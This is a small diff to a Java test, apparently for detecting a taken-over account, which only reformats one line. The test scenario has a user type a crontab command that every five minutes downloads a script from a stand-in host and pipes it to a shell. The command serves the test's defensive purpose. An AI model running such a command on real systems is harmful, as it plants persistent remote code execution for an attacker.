@@ -51,7 +51,9 @@ class TakenAccountTest {
     story
         .ssh("data1", "dana", LATER, "7 03:00:00")
         .until("7 03:30:00")
-        .types("7 03:01:00", "(crontab -l; echo '*/5 * * * * curl -s http://x.example/u | sh') | crontab -");
+        .types(
+            "7 03:01:00",
+            "(crontab -l; echo '*/5 * * * * curl -s http://x.example/u | sh') | crontab -");
     return story;
   }
 
